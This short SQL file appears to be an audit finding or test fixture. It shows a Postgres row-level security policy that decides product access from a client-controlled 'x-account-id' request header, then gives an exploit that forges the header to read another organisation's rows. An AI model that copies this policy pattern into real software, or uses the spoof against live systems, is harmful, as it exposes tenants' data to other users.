-- channel: claims
-- object: public.products
-- says: The storefront policy trusts an account id from a request header.
create policy "storefront" on public.products for select to authenticated
using (
    account_id::text
    = (nullif(current_setting('request.headers', true), '')::json ->> 'x-account-id')
);
-- exploit as mallory with {"headers": {"x-account-id": "{org_b}"}}
select from public.products where account_id = :org_b;
-- leaks when rows
